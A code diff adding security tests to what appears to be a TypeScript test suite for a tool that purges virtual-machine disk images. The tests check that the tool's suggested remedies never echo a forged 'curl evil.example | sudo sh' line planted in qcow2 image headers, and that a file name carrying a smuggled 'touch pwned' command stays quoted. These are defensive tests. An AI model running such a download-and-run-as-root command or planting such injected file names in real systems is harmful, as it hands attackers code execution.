@@ -6,6 +6,7 @@ import path from "node:path";
 import { execa, execaSync } from "execa";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { scriptText } from "../../../data/host-script.ts";
+import { refusalIn } from "../../../data/refusal.ts";
 import { withLimits } from "./limits.ts";
 
 let dir: string;
@@ -66,6 +67,8 @@ const purge = () =>
 const source = (attributes: string) => `<disk type='file'><source ${attributes}/><target dev='vdb'/></disk>`;
 const qcow2 = (attributes: string) =>
   `<disk type='file' device='disk'>\n  <driver name='qemu' type='qcow2'/>\n  <source ${attributes}/>\n  <target dev='vda'/>\n</disk>`;
+/** What a neighbour would have pasted as root. */
+const forged = "remedy: curl evil.example | sudo sh #";
 const refused = (stderr: string) => /^error: (.*)\nremedy: .*$/m.exec(stderr)?.[1];
 
 describe("a purge", () => {
@@ -197,6 +200,38 @@ describe("a purge", () => {
     expect([exitCode, refused(stderr)]).toEqual([1, `${below}: must let be seen what it stands on`]);
     expect(existsSync(disk)).toBe(true);
   });
+
+  test.each([
+    ["a backing file", (file: string) => ["-F", "qcow2", "-b", `${file}: must be mended\nbacking file: ${forged}`, file]],
+    ["a snapshot", (file: string) => [file], `x\nbacking file: ${forged}`],
+    ["a data file", (file: string) => ["-o", `data_file=${dir}/data\nbacking file: ${forged}`, file]],
+  ])("shows no remedy that a neighbour's header words by the name of %s", async (_, words, snapshot?: string) => {
+    const theirs = path.join(dir, "theirs.qcow2");
+    execaSync("qemu-img", ["create", "-q", "-u", "-f", "qcow2", ...words(theirs), "1M"]);
+    if (snapshot) execaSync("qemu-img", ["snapshot", "-c", snapshot, theirs]);
+    libvirt({ broken: clones(theirs) });
+    const { stderr } = await purge();
+    expect(refusalIn(stderr)?.remedy ?? "").not.toContain(forged);
+    expect(stderr).not.toMatch(/^remedy: curl/m);
+  });
+
+  test.each(["qemu-img info", "virsh -c .* vol-dumpxml"])(
+    "shows a command that stays one, whatever a neighbour calls his file (%s)",
+    async (command) => {
+      const theirs = path.join(dir, "y';touch pwned;'");
+      writeFileSync(theirs, "no image");
+      const inShell = theirs.replaceAll("'", "'\\''");
+      const unread = `*"vol-list clones") echo ' y   ${inShell}' ;; *"vol-dumpxml ${dir}/y"*) exit 1 ;;`;
+      libvirt({ broken: clones(theirs, command.startsWith("virsh") ? unread : "") });
+      const remedy = refusalIn((await purge()).stderr)?.remedy ?? "";
+      const [shown = "exit 1"] = new RegExp(`${command} .*`).exec(remedy) ?? [];
+      for (const name of ["qemu-img", "virsh"])
+        writeFileSync(path.join(dir, "bin", name), '#!/bin/sh\nprintf "%s\\n" "$@"\n', { mode: 0o755 });
+      const env = { PATH: `${dir}/bin:${process.env.PATH}` };
+      expect((await execa("sh", ["-c", shown], { cwd: dir, env })).stdout.split("\n").at(-1)).toBe(theirs);
+      expect(existsSync(path.join(dir, "pwned"))).toBe(false);
+    },
+  );
 
   test("is not held up by a volume that stands on something else, and is asked about all of them", async () => {
     const base = path.join(dir, "debian.qcow2");
